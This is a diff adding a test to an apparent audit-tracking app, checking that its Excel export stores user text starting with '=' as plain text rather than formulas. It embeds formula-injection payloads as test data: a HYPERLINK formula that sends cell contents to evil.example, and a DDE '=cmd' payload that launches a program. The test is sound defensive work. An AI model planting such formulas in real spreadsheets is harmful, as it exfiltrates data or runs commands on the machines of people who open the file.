@@ -270,3 +270,48 @@ def test_only_xlsx_and_known_action_filters(world, tmp_path):
             world.db, world.lead, out / "x.xlsx", action_kwargs={"owner": "aud1"}, **args
         )
     assert list(out.iterdir()) == []
+
+
+def test_user_text_starting_with_equals_is_written_as_text_not_a_formula(world, tmp_path):
+    """Formula injection: a learning point, action, comment or search text typed as a formula
+    stays text (exactly as typed) and nothing in the workbook is a formula."""
+    import zipfile
+
+    north, _area, _overdue = build(world)
+    point = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    learning.add_learning_point(world.db, world.auditor, north, kind="strength", text=point)
+    learning.add_action(
+        world.db, world.auditor, north, text="=1+1", owner_key="aud1", due_on=date(2026, 2, 1)
+    )
+    feedback.add_feedback(
+        world.db,
+        world.auditor,
+        FeedbackInput(
+            respondent="parent",
+            channel="phone",
+            collected_on=DAY,
+            consent=True,
+            comment="=cmd|' /C calc'!A0",
+            shareable=True,
+        ),
+        audit_uuid=north,
+    )
+    target = tmp_path / "learning.xlsx"
+    learning_export.export_workbook(
+        world.db,
+        world.lead,
+        target,
+        learning=LearningFilter(text="=HYPERLINK"),
+        feedback=FeedbackFilter(),
+    )
+    book = load_workbook(target)
+    lp = book["Learning points"]
+    assert "Text contains: =HYPERLINK" in [r[0] for r in rows_of(lp)]
+    hostile = [c for row in lp.iter_rows() for c in row if c.value == point]
+    assert len(hostile) == 1 and hostile[0].data_type == "s"
+    assert "=1+1" in [r["Action"] for r in table(book["Actions"], 7)]
+    assert "=cmd|' /C calc'!A0" in [r["Comment"] for r in table(book["Feedback"], 7)]
+    with zipfile.ZipFile(target) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert "<f>" not in archive.read(name).decode(), name
